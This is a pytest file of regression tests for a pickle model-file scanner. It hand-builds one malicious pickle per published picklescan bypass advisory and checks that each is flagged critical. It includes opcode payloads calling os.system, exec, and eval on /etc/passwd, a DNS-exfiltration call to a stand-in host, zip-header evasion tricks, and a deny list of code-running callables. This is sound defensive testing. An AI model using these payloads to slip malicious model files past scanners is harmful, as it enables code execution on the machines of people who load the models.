"""redteam21: one test per published pickle-scanner bypass, named by its advisory, each CRITICAL.

The advisories are picklescan's (``github.com/mmaitre314/picklescan/security/advisories/GHSA-...``): its own test
data (``tests/init_data_files.py``, one ``reduce_GHSA_...`` per advisory) says which callable each one reaches,
and modelscan#263 lists the zip ones. Every payload is raw opcode bytes written here, the way ``pickle.dumps``
writes the advisory's ``__reduce__`` at protocol 4 (``STACK_GLOBAL``) and at protocol 2 (``GLOBAL``, or
``getattr(<class>, "<method>")`` for a method, which is how protocol < 4 writes a dotted qualname). Nothing is
ever unpickled; the commands are harmless anyway.

On the baseline (4863df0) every advisory below was already CRITICAL: these are regression tests that the lead's
"a test per published bypass" bar asks for. The names in ``test_code_running_name_is_critical`` were only "unknown
global" (high) there and fail on it.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile

import pytest

from veritensor_fast.models import ModelIssue, analyze


def _su(s: str) -> bytes:  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def _glob(m: str, n: str) -> bytes:  # GLOBAL
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def _sg(m: str, n: str) -> bytes:  # STACK_GLOBAL
    return _su(m) + _su(n) + b"\x93"


PAY = "__import__('os').system('echo pwned')"


def _crit(issues: list[ModelIssue]) -> set[str]:
    return {i.evidence for i in issues if i.severity == "critical"}


def _forms(module: str, qualname: str) -> list[bytes]:
    """The advisory's ``(callable, ({}, payload))`` written as protocol 4 and as protocol 2."""
    args = b"}" + _su(PAY) + b"\x86"  # EMPTY_DICT, the payload, TUPLE2
    p4 = b"\x80\x04" + _sg(module, qualname) + args + b"R."
    cls, _, meth = qualname.rpartition(".")
    if cls:  # pickle.dumps(..., protocol=2) of a method: getattr(<class>, "<method>")
        callee = _glob("builtins", "getattr") + _glob(module, cls) + _su(meth) + b"\x86R"
    else:
        callee = _glob(module, qualname)
    return [p4, b"\x80\x02" + callee + args + b"R."]


#: (advisory, module, qualname): picklescan's ``reduce_GHSA_*`` functions, one per advisory
ADVISORIES = [
    ("GHSA-4r9r-ch6f-vxmx", "torch.utils.bottleneck.__main__", "run_cprofile"),
    ("GHSA-4whj-rm5r-c2v8", "torch.utils.bottleneck.__main__", "run_autograd_prof"),
    ("GHSA-86cj-95qr-2p4f", "torch._dynamo.guards", "GuardBuilder.get"),
    ("GHSA-f4x7-rfwp-v3xw", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("GHSA-f745-w6jp-hpxx", "torch.utils.collect_env", "run"),
    ("GHSA-jhph-76pp-mggw", "torch.utils.collect_env", "run_and_read_all"),
    ("GHSA-h3qp-7fh3-f8h4", "torch.utils.data.datapipes.utils.decoder", "basichandlers"),
    ("GHSA-vr7h-p6mm-wpmh", "torch.jit.unsupported_tensor_ops", "execWrapper"),
    ("GHSA-vv6j-3g6g-2pvj", "torch.utils._config_module", "ConfigModule.load_config"),
    ("GHSA-5qwp-399c-mjwf", "trace", "Trace.run"),
    ("GHSA-g344-hcph-8vgg", "trace", "Trace.runctx"),
    ("GHSA-x696-vm39-cp64", "profile", "Profile.run"),
    ("GHSA-6vqj-c2q5-j97w", "profile", "Profile.runctx"),
    ("GHSA-f54q-57x4-jg88", "lib2to3.pgen2.grammar", "Grammar.loads"),
    ("GHSA-p9w7-82w4-7q8m", "lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
    ("GHSA-3vg9-h568-4w9m", "idlelib.debugobj", "ObjectTreeItem.SetText"),
    ("GHSA-6w4w-5w54-rjvr", "idlelib.autocomplete", "AutoComplete.get_entity"),
    ("GHSA-7cq8-mj8x-j263", "idlelib.autocomplete", "AutoComplete.fetch_completions"),
    ("GHSA-8r4j-24qv-fmq9", "idlelib.calltip", "Calltip.fetch_tip"),
    ("GHSA-9xph-j2h6-g47v", "idlelib.calltip", "get_entity"),
    ("GHSA-m869-42cg-3xwr", "idlelib.run", "Executive.runcode"),
    ("GHSA-j343-8v2j-ff7w", "idlelib.pyshell", "ModifiedInterpreter.runcommand"),
    ("GHSA-3gf5-cxq9-w223", "idlelib.pyshell", "ModifiedInterpreter.runcode"),
    ("GHSA-cj3c-v495-4xqh", "code", "InteractiveInterpreter.runcode"),
    ("GHSA-xp4f-hrf8-rxw7", "ensurepip", "_run_pip"),
    ("GHSA-fqq6-7vqf-w3fg", "doctest", "debug_script"),
    ("GHSA-9w88-8rmg-7g2p", "cProfile", "runctx"),
    ("GHSA-49gj-c84q-6qm9", "cProfile", "run"),
    ("GHSA-q77w-mwjj-7mqx", "asyncio.unix_events", "_UnixSubprocessTransport._start"),
    ("GHSA-m273-6v24-x4m4", "distutils.file_util", "write_file"),
    ("GHSA-4675-36f9-wf6r", "ctypes", "CDLL"),
    ("GHSA-vqmv-47xg-9wpr", "pty", "spawn"),
    ("GHSA-r8g5-cgf2-4m4m", "numpy.f2py.crackfortran", "getlincoef"),
    ("GHSA-vvpj-8cmc-gx39", "pkgutil", "resolve_name"),
    ("GHSA-v7x6-rv5q-mhwc", "timeit", "timeit"),
    ("CVE-2025-1716", "pip", "main"),
    ("picklescan io_FileIO", "_io", "FileIO"),
    ("picklescan urllib_request_urlopen", "urllib.request", "urlopen"),
    ("picklescan malicious20 (venv.create)", "venv", "create"),
    ("picklescan malicious18 (pydoc.pipepager)", "pydoc", "pipepager"),
    ("picklescan malicious17", "torch._inductor.codecache", "compile_file"),
    ("picklescan malicious15 (bdb)", "bdb", "Bdb.run"),
    ("picklescan malicious22 (runstring)", "numpy.testing._private.utils", "runstring"),
    ("picklescan malicious5 (aiohttp)", "aiohttp", "ClientSession"),
    ("picklescan malicious4 (requests)", "requests.api", "get"),
    ("picklescan malicious3 (http.client)", "http.client", "HTTPSConnection"),
    ("picklescan malicious9 (sys.exit)", "sys", "exit"),
    ("picklescan dns_exfiltration (ssl)", "ssl", "get_server_certificate"),
]


@pytest.mark.parametrize("adv,module,qualname", ADVISORIES, ids=[a[0] for a in ADVISORIES])
def test_advisory_callable_is_critical_in_both_protocols(adv: str, module: str, qualname: str) -> None:
    for data in _forms(module, qualname):
        for name in ("model.pkl", "pytorch_model.bin"):  # GHSA-jgw4-cr84-mqxg: the same payload named .bin
            assert f"{module}.{qualname}" in _crit(analyze(data, name)), (adv, data)


def test_ghsa_84r2_jw7c_4r5q_methodcaller_of_pydoc_locate() -> None:
    """GHSA-84r2-jw7c-4r5q: ``methodcaller("system", cmd)(pydoc.locate("os"))``: no os global in the stream."""
    data = (b"\x80\x04" + _sg("_operator", "methodcaller") + _su("system") + _su("echo pwned") + b"\x86R"
            + _sg("pydoc", "locate") + _su("os") + b"\x85R" + b"\x85R.")
    assert {"_operator.methodcaller", "pydoc.locate"} <= _crit(analyze(data, "model.pkl"))


def test_ghsa_9gvj_pp9x_gcfr_stack_global_of_string_opcodes_without_proto() -> None:
    """GHSA-9gvj-pp9x-gcfr: STACK_GLOBAL fed by protocol-0 STRING opcodes, no PROTO header."""
    data = b"S'os'\nS'system'\n\x93S'ls'\n\x85R."
    for name in ("model.pkl", "weights"):
        assert "os.system" in _crit(analyze(data, name))


def test_picklescan_keyerror_and_type_confusion_after_the_payload() -> None:
    """picklescan ``keyerror-exploit.pkl``/``type-confusion-exploit.pkl``: a missing memo key or an int module
    name after the call made picklescan abort; the call before it has run."""
    call = b"\x80\x04" + _glob("os", "system") + b"Vecho pwned\n\x85R0"
    keyerror = call + _su("os") + b"\x94" + b"h\x03h\x00\x93" + b"KB."
    confusion = call + b"J\x2a\x00\x00\x00\x94" + _su("os") + b"\x94" + b"h\x00h\x01\x93KB."
    for data in (keyerror, confusion):
        assert "os.system" in _crit(analyze(data, "model.pkl"))
    assert any(i.rule_id == "model.pickle.unresolved-global" and i.severity == "critical"
               for i in analyze(confusion, "model.pkl"))


def test_picklescan_broken_model_without_stop() -> None:
    """picklescan ``broken_model.pkl``: ``builtins.exec`` runs before the stream breaks (no STOP)."""
    data = b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX."
    issues = analyze(data, "model.pkl")
    assert "builtins.exec" in _crit(issues)


def test_sour_pickles_blackhat_2011() -> None:
    """picklescan ``malicious0.pkl`` (Slaviero, Sour Pickles): globals/compile/eval/getattr/apply, protocol 0."""
    data = (b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=open(\"/etc/passwd\");x=fl.read();'\n"
            b"S''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\n"
            b"dict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n.")
    assert {"__builtin__.eval", "__builtin__.compile", "__builtin__.apply"} <= _crit(analyze(data, "m.pkl"))


def test_picklescan_issue_22_memo_decoy_ctf() -> None:
    """picklescan#22 (ImaginaryCTF "Safe Pickle"): decoy names memoised, the real ones fetched by GET."""
    data = (b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR.")
    assert "os.system" in _crit(analyze(data, "m.pkl"))
    assert "os.system" in _crit(analyze(data + b"\n\n\t\t", "m.pkl"))  # malicious-invalid-bytes.pkl


def test_popped_decoy_and_memoised_global_modelaudit_518() -> None:
    """promptfoo/modelaudit#518: a decoy string pushed and popped between the operands of STACK_GLOBAL, and a
    GLOBAL memoised, popped and fetched back for REDUCE."""
    decoy = b"\x80\x04" + _su("os") + _su("system") + _su("torch") + b"0\x93" + _su("echo") + b"\x85R."
    memo = b"\x80\x04" + _glob("os", "system") + b"\x94" + b"0N0h\x00" + _su("echo") + b"\x85R."
    for data in (decoy, memo):
        assert "os.system" in _crit(analyze(data, "m.pkl"))


def test_partial_of_torch_load_with_kwargs_picklescan_malicious19() -> None:
    """picklescan ``malicious19.pkl``: ``functools.partial(torch.load, path, weights_only=False)``, as
    ``partial.__reduce__`` writes it (the function and keywords in the BUILD state)."""
    state = (b"(" + _sg("torch", "load") + _su("other.bin") + b"\x85" + b"}" + _su("weights_only") + b"\x89s"
             + b"Nt")
    data = b"\x80\x04" + _sg("functools", "partial") + _sg("torch", "load") + b"\x85R" + state + b"b)R."
    assert {"functools.partial", "torch.load"} <= _crit(analyze(data, "m.pkl"))


def test_build_setstate_gadget_on_an_allowed_class() -> None:
    """BUILD with a ``(None, {"__setstate__": os.system})`` slot state plants an instance attribute; the next
    BUILD calls it. The class is allowed (OrderedDict); the planted callable is a global and stays CRITICAL."""
    data = (b"\x80\x04" + _sg("collections", "OrderedDict") + b")R" + b"N}" + _su("__setstate__")
            + _sg("posix", "system") + b"s\x86b" + _su("echo pwned") + b"b.")
    assert "posix.system" in _crit(analyze(data, "m.pkl"))


def _npy_object(pickle_bytes: bytes) -> bytes:
    hdr = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr += b" " * (64 - 10 - len(hdr) - 1) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr + pickle_bytes


def test_dns_exfiltration_npy_object_array() -> None:
    """picklescan ``dns_exfiltration.npy``: an object array whose element is ``ssl.get_server_certificate``."""
    pk = (b"\x80\x02" + _glob("numpy.core.multiarray", "_reconstruct") + _glob("numpy", "ndarray")
          + b"K\x00\x85C\x01b\x87R(K\x01K\x01\x85" + _glob("numpy", "dtype") + _su("O8")
          + b"\x89\x88\x87R(K\x03" + _su("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb\x89]"
          + _glob("ssl", "get_server_certificate") + _su("x.dns-logger.invalid") + b"M\xbb\x01\x86\x85R"
          + b"atb.")
    issues = analyze(_npy_object(pk), "dns_exfiltration.npy")
    assert "ssl.get_server_certificate" in _crit(issues)


# ---- zip containers (picklescan advisories listed in modelscan#263) -----------------------------------------

EVIL = b"\x80\x04" + _sg("builtins", "eval") + _su("print('456')") + b"\x85R."


def _zip(name: str, data: bytes, comp: int = zipfile.ZIP_STORED) -> bytes:
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", comp) as z:
        z.writestr(name, data)
    return b.getvalue()


def test_ghsa_769v_p64c_89pr_pickle_member_with_a_non_pickle_extension() -> None:
    """GHSA-769v-p64c-89pr (``malicious1_wrong_ext.zip``): the pickle is ``data.txt``."""
    for member in ("data.txt", "archive/data", "archive/weights.json"):
        assert "builtins.eval" in _crit(analyze(_zip(member, EVIL), "model.pt"))


def test_ghsa_7q5r_7gvp_wc82_crc_mismatch() -> None:
    """GHSA-7q5r-7gvp-wc82 (``malicious1_crc.zip``): the payload edited after zipping; torch ignores the CRC."""
    data = _zip("data.pkl", EVIL).replace(b"print('456')", b"print('123')", 1)
    assert "builtins.eval" in _crit(analyze(data, "model.pt"))


def test_ghsa_w8jq_xcqf_f792_general_purpose_flag_bits() -> None:
    """GHSA-w8jq-xcqf-f792: flag bits (encrypted, data descriptor, strong encryption, masked header, UTF-8) set
    on plain data in both headers; torch's reader ignores them."""
    raw = _zip("archive/data.pkl", EVIL)
    lh, cd = raw.find(b"PK\x03\x04"), raw.find(b"PK\x01\x02")
    for bit in (0x1, 0x8, 0x40, 0x2000, 0x800, 0x1 | 0x40 | 0x2000):
        r = bytearray(raw)
        for off in (lh + 6, cd + 8):
            r[off] |= bit & 0xFF
            r[off + 1] |= bit >> 8
        assert "builtins.eval" in _crit(analyze(bytes(r), "model.pt")), hex(bit)


def test_central_directory_name_differs_from_the_local_name() -> None:
    """picklescan ``malicious1_central_directory.zip``: the first ``data.pkl`` renamed ``datap.kl``."""
    data = _zip("data.pkl", EVIL).replace(b"data.pkl", b"datap.kl", 1)
    assert "builtins.eval" in _crit(analyze(data, "model.pt"))


@pytest.mark.parametrize("evil_first", [True, False])
def test_zip_with_two_members_named_data_pkl(evil_first: bool) -> None:
    """Two ``archive/data.pkl`` entries: Python's zipfile reads the last, other readers the first."""
    b = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(b, "w") as z:
            for data in ((EVIL, b"\x80\x02}.") if evil_first else (b"\x80\x02}.", EVIL)):
                z.writestr("archive/data.pkl", data)
    assert "builtins.eval" in _crit(analyze(b.getvalue(), "model.pt"))


@pytest.mark.parametrize("comp", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_compressed_zip_member(comp: int) -> None:
    assert "builtins.eval" in _crit(analyze(_zip("archive/data.pkl", EVIL, comp), "model.pt"))


# ---- names that run code, reach the network or open files: CRITICAL, not "unknown" ---------------------------

NEW_DENIED = [
    ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", "imports a model repository's code"),
    ("transformers", "AutoModel.from_pretrained", "downloads and torch.loads a checkpoint, or runs remote code"),
    ("huggingface_hub", "hf_hub_download", "network download"),
    ("huggingface_hub.file_download", "hf_hub_download", "network download"),
    ("datasets", "load_dataset", "runs a dataset script, network"),
    ("IPython.utils.process", "system", "runs a shell command"),
    ("IPython.core.interactiveshell", "InteractiveShell.run_cell", "runs Python source"),
    ("pstats", "Stats", "marshal.load of a file by path"),
    ("torch._export.serde.serialize", "deserialize", "loads an exported program"),
    ("torch.utils._import_utils", "import_dill", "imports dill"),
    ("pandas", "read_csv", "reads a file or URL"),
    ("pandas.io.sql", "read_sql", "runs a query"),
    ("h5py", "File", "opens, and with mode 'w' truncates, a file"),
    ("numpy", "loadtxt", "reads a file by path"),
    ("numpy.core.records", "fromfile", "reads a file by path"),
]


@pytest.mark.parametrize("module,qualname,why", NEW_DENIED, ids=[f"{m}.{q}" for m, q, _ in NEW_DENIED])
def test_code_running_name_is_critical(module: str, qualname: str, why: str) -> None:
    for data in _forms(module, qualname):
        issues = analyze(data, "model.pkl")
        assert f"{module}.{qualname}" in _crit(issues), (why, issues)
